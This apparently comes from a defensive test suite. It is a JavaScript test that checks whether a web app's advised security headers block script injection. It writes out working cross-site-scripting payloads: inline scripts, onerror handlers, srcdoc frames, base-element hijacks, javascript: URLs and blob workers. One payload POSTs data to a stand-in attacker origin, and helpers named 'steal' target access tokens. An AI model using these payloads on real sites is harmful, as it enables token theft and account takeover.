// T16: whether the headers of docs/security/headers.md keep a script out that some hole of the app lets in. Each injection
// is carried out twice: without a policy, where the script must run, and with it, where it must not and the server is told.

import assert from "node:assert/strict";

import { escapeHtml, readBody, send as answer } from "../../www/server/http.mjs";
import { advised } from "../browser/support/advice.mjs";
import { bundles } from "../browser/support/bundles.mjs";
import { send } from "../browser/support/calls.mjs";
import { holderPlace, inPlace } from "../browser/support/places.mjs";
import { signIn } from "../browser/support/sign-in.mjs";
import { until } from "../browser/support/until.mjs";
import { makeEvil } from "./scripts/evil.mjs";
import { steal } from "./scripts/steal.mjs";
import { attack, withTheApp } from "./support/attack.mjs";

const script = (rig) => `(${steal})((${makeEvil})(${JSON.stringify(rig.origins.evil)}), ${JSON.stringify({ url: rig.v1("files") })})`;
const element = "script-src-elem";
const sink = "require-trusted-types-for";

/** Markup that a hole lets into every page, and what the policy says of it. */
const markup = {
  "an inline script": [(rig) => `<script>${script(rig)}</script>`, element],
  "an inline event handler": [(rig) => `<img src="/no" onerror="${escapeHtml(script(rig))}">`, "script-src-attr"],
  "a foreign script": [(rig) => `<script src="${rig.origins.evil}/x.js"></script>`, element],
  "an inline script in the document of a frame": [
    (rig) => `<iframe srcdoc="${escapeHtml(`<script>${script(rig)}</script>`)}"></iframe>`,
    element,
  ],
  "a base element that moves the app's scripts": [(rig) => `<base href="${rig.origins.evil}/"><script src="x.js"></script>`, "base-uri"],
};

/** What careless code of the app does with a text of the attacker's: a function that runs in the page. */
const carelessness = {
  "text as innerHTML": [(rig) => `<img src="/no" onerror="${escapeHtml(script(rig))}">`, (text) => (document.body.innerHTML = text), sink],
  "a javascript: URL": [(rig) => `javascript:${encodeURIComponent(script(rig))}`, (text) => (location.href = text), element],
  "a link with a javascript: URL": [(rig) => `javascript:${encodeURIComponent(script(rig))}`, clickLink, element],
  "a worker from a blob: URL": [
    (rig) => `fetch(${JSON.stringify(`${rig.origins.evil}/loot`)}, { method: "POST", mode: "no-cors", body: "ran in a worker" })`,
    startBlob,
    sink,
  ],
  "a foreign source for a script element": [
    (rig) => `${rig.origins.evil}/x.js`,
    (text) => document.head.append(Object.assign(document.createElement("script"), { src: text })),
    sink,
  ],
};

function clickLink(text) {
  const link = Object.assign(document.createElement("a"), { href: text, textContent: "read on" });
  document.body.append(link);
  link.click();
}

function startBlob(text) {
  return new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
}

for (const [what, [html, directive]] of Object.entries(markup)) {
  const work = async (rig) => {
    rig.shown.injected = html(rig);
    return rig.open("/place");
  };
  inject(what, { free: work, strict: work, directive });
}

for (const [what, [text, careless, directive]] of Object.entries(carelessness)) {
  const fallFor = (rig, page) => page.evaluate(`try { void (${careless})(${JSON.stringify(text(rig))}) } catch {} void 0`);
  const free = async (rig) => {
    rig.shown.injected = "";
    const page = await rig.open("/place");
    await fallFor(rig, page);
    return page;
  };
  inject(what, { free, strict: (rig, { signedIn }) => fallFor(rig, signedIn), directive });
}

/** Registers an injection: `free` carries it out where there is no policy, `strict` where there is one that tells `directive`. */
function inject(what, { free, strict, directive }) {
  const definition = {
    id: "T16",
    threat: "S1 to S13",
    title: `the advised headers hold back ${what} (SAFE-4)`,
    modes: withTheApp,
    outcome: "stopped",
    share: "policy",
  };
  attack(definition, async (rig) => {
    const prepared = (rig.prepared ??= await prepare(rig));
    rig.shown.headers = {};
    const page = await free(rig);
    await until(() => rig.evil.loot().some((text) => text.startsWith("ran ")), "the script that nothing holds back");
    await page.close();
    rig.sinceNow();
    prepared.reports.length = 0;

    rig.shown.headers = prepared.headers;
    const judged = await strict(rig, prepared);
    await until(() => prepared.reports.length > 0, "the report of a violation");
    assert.deepEqual([...new Set(prepared.reports)], [directive]);
    await assertNothingArrived(rig, prepared);
    await judged?.close();
    return rig.verdict("access token", "code");
  });
}

/** Whatever the policy let through would have arrived before the answer to this request. */
async function assertNothingArrived(rig, { signedIn }) {
  assert.equal((await send(signedIn, rig.v1("files"))).value?.status, 200);
  assert.deepEqual(
    rig.evil.requests.map(({ method, url }) => `${method} ${url}`),
    [],
  );
}

/** Signs in with the policy and with all the markup in every page, on the way back from the authorization server too. */
async function prepare(rig) {
  const reports = [];
  const page = () => [
    "text/html; charset=utf-8",
    `<!doctype html><html lang="en" data-holder="${holderPlace}"><meta charset="utf-8"><title>app</title>
    <script type="module" src="/app.js"></script>${rig.shown.injected}<h1>app</h1></html>`,
  ];
  for (const path of ["/", "/place", "/callback"]) rig.shown.files[path] = page;
  Object.assign(rig.shown.files, inPlace((await bundles()).scripts.holder, rig.shown));
  rig.shown.routes = { "/reports": (request, response) => takeReport(reports, request, response) };
  rig.evil.routes["/x.js"] = (request, response) => answer(response, 200, script(rig), { "content-type": "text/javascript" });
  rig.shown.injected = Object.values(markup)
    .map(([html]) => html(rig))
    .join("");
  const { app, as, api } = rig.origins;
  const headers = advised({ single: rig.mode === "page", app, authorizationServer: as, apis: [api] });
  rig.shown.headers = headers;
  const signedIn = await rig.open();
  await signIn(signedIn);
  await until(
    () => new Set(reports).size === new Set(Object.values(markup).map(([, directive]) => directive)).size,
    "a report of each kind",
  );
  await assertNothingArrived(rig, { signedIn });
  return { reports, headers, signedIn };
}

async function takeReport(reports, request, response) {
  reports.push(JSON.parse(await readBody(request))["csp-report"]["effective-directive"]);
  answer(response, 204, "");
}
